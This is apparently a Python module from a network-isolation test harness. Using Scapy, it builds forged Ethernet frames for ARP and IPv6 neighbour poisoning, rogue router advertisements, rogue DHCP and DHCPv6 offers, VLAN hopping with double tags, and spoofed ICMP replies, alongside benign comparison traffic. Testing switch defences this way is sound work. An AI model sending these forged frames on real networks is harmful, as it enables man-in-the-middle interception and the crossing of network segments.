"""The frames of the eight attacks. Scapy computes checksums; nothing here is sent by it."""
import os
from typing import Iterator

from scapy.layers.dhcp import BOOTP, DHCP
from scapy.layers.dhcp6 import DHCP6_Advertise
from scapy.layers.inet import ICMP, IP, UDP
from scapy.layers.inet6 import (ICMPv6ND_NA, ICMPv6ND_RA, ICMPv6NDOptDstLLAddr,
                                ICMPv6NDOptPrefixInfo, ICMPv6NDOptSrcLLAddr, IPv6)
from scapy.layers.l2 import ARP, Dot1Q, Ether
from scapy.packet import Packet, Raw

BROADCAST = 'ff:ff:ff:ff:ff:ff'
ALL_NODES = '33:33:00:00:00:01'
NOBODY = '02:00:00:00:77:77'
FOREIGN_VLAN = 120
EXPERIMENTAL = 0x88b5           # an Ethernet type that is nobody's


class Party:
    """Who sends or receives a frame, or is named in a forged one."""

    def __init__(self, mac: str, ipv4: str, ipv6: str) -> None:
        self.mac, self.ipv4, self.ipv6 = mac, ipv4, ipv6

    @property
    def link_local(self) -> str:
        """The address that IPv6 derives from the MAC."""
        octets = [int(octet, 16) for octet in self.mac.split(':')]
        return 'fe80::%02x%02x:%02xff:fe%02x:%02x%02x' % (
            octets[0] ^ 2, octets[1], octets[2], octets[3], octets[4], octets[5])


def datagrams(source: Party, target: Party, mac: str) -> Iterator[bytes]:
    """Yield UDP over IPv4 and IPv6 in frames from `mac`."""
    ether = Ether(src=mac, dst=target.mac)
    yield frame(ether / IP(src=source.ipv4, dst=target.ipv4) / udp())
    yield frame(ether / IPv6(src=source.ipv6, dst=target.ipv6) / udp())


def pong(source: Party, target: Party, mac: str) -> bytes:
    """Return an answer to a ping that nobody sent: kernels say nothing to that."""
    return frame(Ether(src=mac, dst=target.mac) / IP(src=source.ipv4, dst=target.ipv4)
                 / ICMP(type=0) / token())


def poison(liar: Party, victim: Party, claimed: Party) -> Iterator[bytes]:
    """Yield ARP and ND that put the claimed addresses at the liar's MAC."""
    claim = ARP(op=2, hwsrc=liar.mac, psrc=claimed.ipv4, hwdst=victim.mac, pdst=victim.ipv4)
    yield frame(Ether(src=liar.mac, dst=victim.mac) / claim / token())
    yield frame(Ether(src=liar.mac, dst=BROADCAST) / claim / token())
    yield frame(Ether(src=liar.mac, dst=victim.mac)
                / IPv6(src=claimed.ipv6, dst=victim.ipv6, hlim=255)
                / ICMPv6ND_NA(R=1, S=1, O=1, tgt=claimed.ipv6)
                / ICMPv6NDOptDstLLAddr(lladdr=liar.mac))


def advertise_router(liar: Party, victim: Party) -> Iterator[bytes]:
    """Yield router advertisements to all and to one."""
    for mac, address in ((ALL_NODES, 'ff02::1'), (victim.mac, victim.link_local)):
        yield frame(Ether(src=liar.mac, dst=mac)
                    / IPv6(src=liar.link_local, dst=address, hlim=255)
                    / ICMPv6ND_RA(routerlifetime=1800)
                    / ICMPv6NDOptPrefixInfo(prefix='2001:db8:bad::', prefixlen=64)
                    / ICMPv6NDOptSrcLLAddr(lladdr=liar.mac))


def offer_leases(liar: Party, victim: Party) -> Iterator[bytes]:
    """Yield what a DHCP server says, to all and to one, and DHCPv6."""
    offer = (BOOTP(op=2, yiaddr='10.9.0.66', siaddr=liar.ipv4,
                   chaddr=bytes.fromhex(victim.mac.replace(':', '')))
             / DHCP(options=[('message-type', 'offer'), ('router', liar.ipv4), 'end']) / token())
    for mac, address in ((BROADCAST, '255.255.255.255'), (victim.mac, victim.ipv4)):
        yield frame(Ether(src=liar.mac, dst=mac) / IP(src=liar.ipv4, dst=address)
                    / UDP(sport=67, dport=68) / offer)
    yield frame(Ether(src=liar.mac, dst=victim.mac)
                / IPv6(src=liar.link_local, dst=victim.link_local)
                / UDP(sport=547, dport=546) / DHCP6_Advertise() / token())


def hop(sender: Party, target: Party) -> Iterator[bytes]:
    """Yield frames with a VLAN's tag, to all and to one, and with two tags."""
    for mac, tags in ((BROADCAST, Dot1Q(vlan=FOREIGN_VLAN)), (target.mac, Dot1Q(vlan=FOREIGN_VLAN)),
                      (target.mac, Dot1Q(vlan=0) / Dot1Q(vlan=FOREIGN_VLAN))):
        yield frame(Ether(src=sender.mac, dst=mac) / tags
                    / IP(src=sender.ipv4, dst=target.ipv4) / udp())


def cross(sender: Party, target: Party) -> Iterator[bytes]:
    """Yield what a machine says to another under its own true name."""
    yield from datagrams(sender, target, sender.mac)
    yield frame(Ether(src=sender.mac, dst=target.mac, type=EXPERIMENTAL) / token())


def ask_aloud(sender: Party, target: Party) -> Iterator[bytes]:
    """Yield honest broadcasts and multicasts: an ARP request, an mDNS query."""
    yield frame(Ether(src=sender.mac, dst=BROADCAST)
                / ARP(op=1, hwsrc=sender.mac, psrc=sender.ipv4, pdst=target.ipv4) / token())
    yield frame(Ether(src=sender.mac, dst='01:00:5e:00:00:fb')
                / IP(src=sender.ipv4, dst='224.0.0.251', ttl=255)
                / UDP(sport=5353, dport=5353) / token())


def stray(sender: Party) -> Iterator[bytes]:
    """Yield a frame to a MAC that no switch has learned, so that a plain one floods it."""
    yield frame(Ether(src=sender.mac, dst=NOBODY, type=EXPERIMENTAL) / token())


def udp() -> Packet:
    """Return a datagram like no other."""
    return UDP(sport=4444, dport=4444) / token()


def token() -> Packet:
    """Return words by which a frame is known again."""
    return Raw(os.urandom(24))


def frame(packet: Packet) -> bytes:
    """Return a packet as it stands on the wire."""
    return bytes(packet)


def signature(sent: bytes) -> bytes:
    """Return the part of a frame that no switch changes: all behind MACs and tags."""
    start = 12
    while sent[start:start + 2] == b'\x81\x00':
        start += 4
    return sent[start:]
